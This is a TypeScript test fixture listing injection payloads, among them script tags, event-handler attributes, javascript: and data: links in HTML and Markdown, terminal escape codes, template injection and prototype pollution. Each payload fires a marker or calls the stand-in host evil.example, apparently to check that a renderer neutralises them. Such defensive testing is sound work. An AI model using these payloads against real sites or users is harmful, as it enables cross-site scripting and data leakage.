/** The host in payloads, which nothing may ever request. */
export const ELSEWHERE = "evil.example";

const URL = `https://${ELSEWHERE}`;
const run = (n: number) => `window.__ran=(window.__ran||[]).concat(${n});alert(${n})`;

/**
 * Injection attempts by end users, aimed at a reader's browser, terminal or Markdown renderer. Each calls `window.__ran` or
 * requests ELSEWHERE if it is executed.
 */
export const PAYLOADS: readonly string[] = [
  `<script>${run(1)}</script>`,
  `<img src=x onerror="${run(2)}">`,
  `<img src="${URL}/pixel.png">`,
  `<svg onload="${run(3)}"><script>${run(4)}</script><image href="${URL}/i.png"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="${URL}/frame"></iframe></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.${run(5)}</script>"></iframe>`,
  `<a href="javascript:${run(6)}">click</a>`,
  `[click](javascript:${run(7)})`,
  `![pixel](${URL}/markdown.png "title")`,
  `[link](${URL}/link) <${URL}/auto> ${URL}/bare`,
  `![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<style>@import url(${URL}/s.css);body{background:url(${URL}/b.png)}</style>`,
  `<link rel=stylesheet href="${URL}/l.css"><link rel=prefetch href="${URL}/p"><link rel=dns-prefetch href="//${ELSEWHERE}">`,
  `<meta http-equiv=refresh content="0;url=${URL}/refresh"><base href="${URL}/">`,
  `<form action="${URL}/form"><input name=password autofocus onfocus="${run(8)}"></form>`,
  `<video src="${URL}/v.mp4" autoplay onerror="${run(9)}"></video><audio src="${URL}/a.mp3"></audio>`,
  `<object data="${URL}/o"></object><embed src="${URL}/e">`,
  `<details open ontoggle="${run(10)}"><summary>x</summary></details>`,
  `"><script>${run(11)}</script><x y="`,
  `'-${run(12)}-'`,
  `</script><script>${run(13)}</script>`,
  `</title><script>${run(14)}</script>`,
  `<!--><script>${run(15)}</script>-->`,
  `{{constructor.constructor('${run(16)}')()}} \${${run(17)}} #{7*7} <%= 7*7 %>`,
  `\u001b]8;;${URL}/osc\u001b\\link\u001b]8;;\u001b\\ \u001b[31mred\u001b[0m \u001b[2J\u001b[1;1H \u001b]0;title\u0007`,
  `\u202Etxt.exe\u2066 \u200B\u200F\uFEFF`,
  `{"__proto__":{"polluted":1},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run(18)}>"}}`,
  `$$\\href{javascript:${run(19)}}{x}$$ \`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run(20)}>"]\n\`\`\``,
  `data:text/html,<script>${run(21)}</script>`,
  `javascript:${run(22)}//`,
  `//${ELSEWHERE}/protocol-relative`,
  `\\\\${ELSEWHERE}\\unc`,
];
